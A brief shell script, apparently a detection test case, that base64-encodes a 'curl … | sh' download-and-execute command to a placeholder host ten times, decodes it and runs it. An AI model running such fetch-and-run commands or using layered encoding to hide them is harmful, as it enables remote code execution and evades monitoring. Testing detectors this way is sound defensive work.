#!/bin/sh
. /opt/case/case.sh

text='curl -s http://203.0.113.10/payload.sh | sh'
for i in 1 2 3 4 5 6 7 8 9 10; do text=$(echo "$text" | base64 -w0); done
for i in 1 2 3 4 5 6 7 8 9 10; do text=$(echo "$text" | openssl enc -d -base64 -A); done
bash -c "$text"
wait_for /tmp/reached
took_place
